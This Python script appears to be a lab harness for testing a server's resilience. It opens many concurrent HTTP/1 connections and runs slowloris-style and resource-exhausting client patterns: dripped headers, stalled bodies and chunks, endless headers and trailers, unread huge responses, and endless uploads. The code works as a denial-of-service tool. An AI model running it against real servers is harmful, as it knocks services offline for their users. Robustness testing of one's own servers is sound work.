"""Clients that are slow, deaf or endless over HTTP/1: http1.py ATTACK ADDRESS PORT CONNECTIONS

Prints one JSON line a connection: its own port, how it ended, and the first line of the answer.
"""

import json
import select
import socket
import sys
import threading
import time

PATIENCE = 40


class Ended(Exception):
    pass


class Connection:
    def __init__(self, to, receive_buffer=None):
        self.socket = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET)
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(PATIENCE)
        self.socket.connect(to)
        self.port = self.socket.getsockname()[1]
        self.answer = b""

    def send(self, octets):
        try:
            self.socket.sendall(octets)
        except TimeoutError:
            raise Ended("open")
        except OSError as error:
            raise Ended(type(error).__name__)

    def take(self, wait):
        """Whether something came within so many seconds."""
        if not select.select([self.socket], [], [], wait)[0]:
            return False
        try:
            octets = self.socket.recv(1 << 16)
        except OSError as error:
            raise Ended(type(error).__name__)
        self.answer = (self.answer + octets)[:1000]
        if not octets:
            raise Ended("closed")
        return True

    def watch(self):
        deadline = time.monotonic() + PATIENCE
        while time.monotonic() < deadline:
            self.take(0.5)
        raise Ended("open")

    def end(self):
        """Never reads: how the kernel says that the other side has gone."""
        poll = select.poll()
        poll.register(self.socket, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
        raise Ended("gone" if poll.poll(PATIENCE * 1000) else "open")

    def drip(self, octets, pause):
        for octet in octets:
            self.send(bytes([octet]))
            self.take(pause)


def get(path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: lab\r\n\r\n".encode()


CHUNKED = b"POST / HTTP/1.1\r\nHost: lab\r\nTransfer-Encoding: chunked\r\n\r\n"


def silent(c):
    c.watch()


def slow_head(c):
    c.drip(b"GET / HTTP/1.1\r\nHost: lab\r\n" + b"X: y\r\n" * 1000, 0.1)


def stopped_head(c):
    c.send(b"GET / HTTP/1.1\r\nHos")
    c.watch()


def slow_preface(c):
    c.drip(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r", 0.4)


def stopped_body(c):
    c.send(b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: 1000\r\n\r\nbeginning")
    c.watch()


def never_continued(c):
    """Asks whether it may send a body, and then does not."""
    c.send(b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: 1000\r\nExpect: 100-continue\r\n\r\n")
    c.watch()


def stopped_chunk(c):
    c.send(CHUNKED + b"ff\r\nabc")
    c.watch()


def endless_head(c):
    c.send(b"GET / HTTP/1.1\r\nHost: lab\r\n")
    while True:
        c.send(b"X-More: and more\r\n" * 10)


def endless_line(c):
    c.send(b"GET /")
    while True:
        c.send(b"a" * 1000)


def endless_trailers(c):
    c.send(CHUNKED + b"1\r\nx\r\n0\r\n")
    while True:
        c.send(b"X-More: and more\r\n" * 10)


def endless_extension(c):
    c.send(CHUNKED + b"1;")
    while True:
        c.send(b"a" * 100)


def unread(c):
    c.send(get("/big/500000000"))
    c.end()


def pipelined_unread(c):
    for _ in range(200_000):
        c.send(get("/big/1000000") * 100)


def idle(c):
    c.send(get())
    c.watch()


def patient(c):
    """Waits for an answer that does not come."""
    c.send(get("/slow"))
    c.watch()


def upload(c):
    """To a server that reads nothing."""
    c.send(b"POST / HTTP/1.1\r\nHost: lab\r\nContent-Length: 1000000000\r\n\r\n")
    while True:
        c.send(bytes(1 << 16))


def main():
    attack, address, port, connections = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    small = {"receive_buffer": 4096} if "unread" in attack else {}

    def one():
        c = None
        try:
            c = Connection((address, port), **small)
            globals()[attack](c)
            c.watch()
        except Ended as ended:
            how = str(ended)
        except OSError as error:
            how = repr(error)
        line = c.answer.split(b"\r\n")[0].decode("latin-1") if c else ""
        sys.stdout.write(json.dumps({"port": c and c.port, "how": how, "answer": line}) + "\n")

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


main()
